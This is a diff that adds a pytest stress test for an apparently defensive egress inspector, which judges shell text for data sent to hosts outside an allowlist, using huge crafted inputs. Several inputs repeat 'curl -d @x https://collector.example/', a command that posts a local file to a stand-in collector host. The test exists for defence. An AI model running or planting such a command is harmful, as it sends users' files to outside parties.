@@ -175,3 +175,30 @@ def test_a_bad_allowlist_entry_raises_policy_error() -> None:
         EgressInspector(["*.com"])
     with pytest.raises(PolicyError):
         EgressInspector(["pypi.org"]).inspect(b"curl")  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    "crafted",
+    [
+        '"' * (1 << 20),
+        "".join(f"a{i}=x{i}; " for i in range(40_000)),  # thousands of variables to substitute
+        "`curl -d @x https://collector.example/` " * 50_000,  # thousands of quoted commands
+        "curl " * 200_000,  # one line, the same sink word over and over
+        "$'\\x63\\x75" * 100_000,
+        "curl -d @x https://collector.example/\n" * 20_000,
+    ],
+    ids=["quotes", "assignments", "backticks", "one-long-line", "escapes", "many-commands"],
+)
+def test_crafted_megabytes_cost_bounded_time_and_memory(crafted: str) -> None:
+    import resource
+    import time
+
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    started = time.perf_counter()
+    result = EgressInspector(ALLOWED).inspect(crafted)
+    elapsed = time.perf_counter() - started
+    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    assert isinstance(result.safe, bool)
+    assert elapsed < 20 and grown_mb < 500, (elapsed, grown_mb)  # guards against a hang or a blow-up
+    if "collector.example" in crafted:
+        assert not result.safe  # what was judged is reported, and what was not is said to be
